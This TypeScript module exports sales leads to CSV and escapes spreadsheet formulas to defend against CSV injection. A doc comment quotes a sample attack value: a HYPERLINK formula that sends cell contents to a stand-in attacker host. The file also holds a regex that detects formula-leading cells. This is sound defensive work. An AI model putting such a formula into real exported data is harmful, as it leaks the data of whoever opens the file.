import Papa from 'papaparse';
import type { Lead } from '../dataProvider/api';

/**
 * A cell a spreadsheet would run as a formula: =, +, - or @ first (also after spaces or quotes), or a tab or carriage
 * return that some spreadsheets skip before reading one. Lead fields come from public web forms, so a name such as
 * `=HYPERLINK("http://evil.example/?"&A2, "Open")` is an attack on whoever opens the export (OWASP "CSV injection").
 * Papa Parse prefixes such a cell with an apostrophe, which spreadsheets show as typed text.
 */
export const FORMULA_START = /^[\s"']*[=+\-@\t\r]/;

/** The columns of the lead list's export: the list's own fields, flat, with the owner by e-mail. */
export function leadExportRows(leads: Lead[]): Record<string, unknown>[] {
  return leads.map((lead) => ({
    id: lead.id, createdAt: lead.createdAt, source: lead.source, fullName: lead.fullName, email: lead.email, phone: lead.phone,
    jobPosition: lead.jobPosition, companyName: lead.companyName, industry: lead.industry, location: lead.location, gender: lead.gender,
    status: lead.status, stage: lead.stage, priority: lead.priority, owner: lead.owner?.email ?? null, slaState: lead.slaState,
    slaDueAt: lead.slaDueAt, firstContactedAt: lead.firstContactedAt, outcome: lead.outcome, closedAt: lead.closedAt,
  }));
}

/** The CSV of these leads, every cell safe to open in a spreadsheet. */
export function leadsCsv(leads: Lead[]): string {
  return Papa.unparse(leadExportRows(leads), { escapeFormulae: FORMULA_START });
}
